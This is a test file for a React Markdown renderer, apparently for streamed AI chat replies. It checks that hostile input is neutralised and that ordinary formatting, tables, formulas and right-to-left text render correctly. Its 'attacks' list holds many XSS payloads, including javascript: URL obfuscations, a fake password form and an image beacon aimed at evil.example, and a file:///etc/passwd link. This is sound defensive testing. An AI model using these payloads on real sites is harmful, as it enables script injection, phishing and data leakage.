import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { fireEvent, render, waitFor } from '@testing-library/react';
import { hostileTexts } from '../lexing/hostile-texts.fixture.js';
import { Markdown } from './markdown.js';

const shown = (text: string, live = false) => render(<Markdown text={text} live={live} />).container;

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example)',
  '[x](/api/logout)',
  '[x](\\\\evil.example)',
  '[paypal.com](https://paypal.com@evil.example/)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif?secret)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][1]\n\n[1]: https://evil.example/p.gif "t"',
  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- <img src=x onerror=alert(1)>',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '**<b onclick=alert(1)>bold</b>**',
  '`<script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](https://example.com "onmouseover=alert(1)")',
  '<!--\n<script>alert(1)</script>\n-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '__proto__ [__proto__] [constructor]\n\n[__proto__]: https://example.com',
];

const allowed = new Set(
  'A BLOCKQUOTE BR BUTTON CODE COL COLGROUP DEL DIV EM FIGURE H3 HR LI OL P PATH PRE RECT CIRCLE SPAN STRONG SVG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
);

describe('a hostile reply', () => {
  it.each(attacks.flatMap((text) => [[text, false] as const, [text, true] as const]))(
    '%j is harmless',
    (text, live) => {
      for (let end = live ? 1 : text.length; end <= text.length; end++) {
        const container = shown(text.slice(0, end), live);
        for (const element of container.querySelectorAll('*')) {
          expect(allowed).toContain(element.tagName.toUpperCase());
          for (const { name, value } of element.attributes) {
            expect(name).not.toMatch(/^(on|src|srcdoc|action|formaction|xlink)/);
            if (name === 'style') expect(value).toMatch(/^--min: \d+ch; --max: \d+ch;$/);
            if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
          }
          if (element.tagName === 'A') {
            expect(element.getAttribute('target')).toBe('_blank');
            expect(element.getAttribute('rel')).toContain('noopener');
          }
        }
      }
    },
  );

  it('shows raw HTML as the text it is', () => {
    expect(shown('Use <b>bold</b> & <script>x</script>').textContent).toBe('Use <b>bold</b> & <script>x</script>');
  });

  it('turns a remote picture into a link and loads nothing', () => {
    const container = shown('![A chart](https://example.com/chart.png)');
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')?.href).toBe('https://example.com/chart.png');
    expect(container.textContent).toContain('A chart');
  });

  it('keeps the text of a link that may not be followed', () => {
    const container = shown('[click me](javascript:alert(1))');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('click me');
  });
});

describe('an honest reply', () => {
  it('shows lists, tables, code and emphasis', () => {
    const container = shown(
      '## Title\n\nSome **bold** &amp; `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n- [x] done',
    );
    expect(container.querySelector('h3')?.textContent).toBe('Title');
    expect(container.querySelector('p')?.textContent).toBe('Some bold & code.');
    expect(container.querySelectorAll('ol li')).toHaveLength(2);
    expect(container.querySelector('td[data-align=right]')?.textContent).toBe('2');
    expect(container.querySelector('pre')?.textContent).toBe('const x = 1;');
    expect(container.querySelector('[data-kind=k]')?.textContent).toBe('const');
    expect(container.querySelector('[role=img]')?.getAttribute('aria-label')).toBe('Done');
  });

  it('shows formulas to the letter, and takes no price for one', () => {
    const container = shown(
      'For $5 or US$6, $a_i * b_i$, \\(x \\, y\\) and `$z$`:\n\n\\[\n\\frac{1}{2}\n\\]\n\n$$ n! $$',
    );
    const formulas = [...container.querySelectorAll<HTMLElement>('code[data-maths]')];
    expect(formulas.map(({ textContent, dataset }) => [textContent, dataset['maths']])).toEqual([
      ['a_i * b_i', ''],
      ['x \\, y', ''],
      ['\\frac{1}{2}', 'displayed'],
      ['n!', 'displayed'],
    ]);
    expect(container.textContent).toContain('For $5 or US$6, ');
  });

  it('has its tables sorted by their headings and copied in that order', async () => {
    const container = shown('| City | Size |\n|---|--:|\n| Rome | 9 |\n| Oslo | 10 |');
    const writeText = jest.fn((_text: string) => Promise.resolve());
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const heading = container.querySelectorAll('th')[1]!;
    const cities = () => [...container.querySelectorAll('td:first-child')].map((cell) => cell.textContent);
    const sort = () => fireEvent.click(heading.querySelector('button')!);
    sort();
    expect([heading.getAttribute('aria-sort'), ...cities()]).toEqual(['ascending', 'Rome', 'Oslo']);
    sort();
    expect([heading.getAttribute('aria-sort'), ...cities()]).toEqual(['descending', 'Oslo', 'Rome']);
    fireEvent.click(container.querySelector('[aria-label="Copy as CSV"]')!);
    expect(writeText).toHaveBeenCalledWith('City,Size\r\nOslo,10\r\nRome,9\r\n');
    await waitFor(() => expect(container.querySelector('[aria-label="Table copied"]')).not.toBeNull());
    sort();
    expect([heading.getAttribute('aria-sort'), ...cities()]).toEqual([null, 'Rome', 'Oslo']);
  });

  it('has no heading where a table has none, as in the corner above a column of names', () => {
    const container = shown('|  | Size |\n|---|--:|\n| Rome | 9 |');
    expect([...container.querySelectorAll('th')].map(({ textContent }) => textContent)).toEqual(['Size']);
    expect(container.querySelectorAll('thead td')).toHaveLength(1);
  });

  it('puts no button around a heading that is a link, has no words, or heads a single row', () => {
    expect(
      shown('| [a](https://a.example) |  |\n|---|---|\n| 1 | 2 |\n| 2 | 1 |').querySelector('th button'),
    ).toBeNull();
    expect(shown('| a |\n|---|\n| 1 |').querySelector('th button')).toBeNull();
  });

  it('lets every block begin on the side of its script, its own paragraphs with it', () => {
    const container = shown('שלום\n\n1. אחד\n\n   עוד\n\n> ציטוט\n\n## כותרת\n\n| א |\n|---|\n| ב |');
    const sided = [...container.querySelectorAll('[dir=rtl]')].map(({ localName }) => localName);
    expect(sided).toEqual(['p', 'ol', 'blockquote', 'h3', 'table']);
    expect(shown('**Word** שלום\n\n1. one\n\n> 1 two').querySelector('[dir]')).toBeNull();
  });

  it('appends to the text that is there while a paragraph grows, and leaves it there when it has ended', () => {
    const { container, rerender } = render(<Markdown text="One **two** three" live />);
    const last = () => container.querySelector('p')!.lastChild!.firstChild as Text;
    const before = last();
    const append = jest.spyOn(before, 'appendData');
    rerender(<Markdown text="One **two** three and f" live />);
    rerender(<Markdown text={'One **two** three and four.\n\nFive'} live />);
    expect(append.mock.calls).toEqual([[' and f'], ['our.']]);
    expect([last(), last().data]).toEqual([before, ' three and four.']);
    rerender(<Markdown text={'One **two** three and four.\n\nFive'} />);
    expect(last()).toBe(before);
    expect(container.textContent).toBe('One two three and four.Five');
  });

  it('says at its end alone that more is waited for, until more comes or it has ended', () => {
    jest.useFakeTimers();
    const { container, rerender } = render(<Markdown text={'One.\n\nTwo'} live />);
    const waiting = () => [...container.querySelectorAll('[data-waiting]')];
    jest.advanceTimersByTime(499);
    expect(waiting()).toEqual([]);
    jest.advanceTimersByTime(1);
    expect(waiting()).toEqual([container.querySelector('[data-open]')]);
    rerender(<Markdown text={'One.\n\nTwo words'} live />);
    expect(waiting()).toEqual([]);
    jest.advanceTimersByTime(500);
    expect(waiting()).toHaveLength(1);
    rerender(<Markdown text={'One.\n\nTwo words'} />);
    expect(waiting()).toEqual([]);
    jest.useRealTimers();
  });

  it('takes back what turned out to be a mark', () => {
    const { container, rerender } = render(<Markdown text="five * 3 &am" live />);
    rerender(<Markdown text="five * 3 &amp; x" live />);
    expect(container.textContent).toBe('five * 3 & x');
    rerender(<Markdown text={'five * 3 &amp; x\n===\n\n'} live />);
    expect([container.querySelector('h3')?.textContent, container.querySelector('p')]).toEqual(['five * 3 & x', null]);
  });

  it('leaves finished blocks in place while the text grows', () => {
    const { container, rerender } = render(<Markdown text={'One.\n\nTwo **bo'} live />);
    const first = container.querySelector('p');
    rerender(<Markdown text={'One.\n\nTwo **bold** and'} live />);
    expect(container.querySelector('p')).toBe(first);
    const second = container.querySelectorAll('p')[1];
    expect([second?.textContent, second?.querySelector('strong')?.textContent]).toEqual(['Two bold and', 'bold']);
  });
});

describe('no hostile reply fails to be drawn', () => {
  afterEach(() => void jest.restoreAllMocks());

  it.each([
    'quote marks',
    'list marks',
    'links never closed',
    'soft within soft',
    'nested brackets',
    'quotes and lists',
  ])('%s', (name) => {
    const logged = jest.spyOn(console, 'error');
    const text = hostileTexts(5_000)[name] ?? '';
    expect(shown(text).querySelector('[data-open], div')).not.toBeNull();
    expect(shown(`${text}\n\nAnd **after**.`).textContent).toContain('And after.');
    expect(logged).not.toHaveBeenCalled();
  });
});
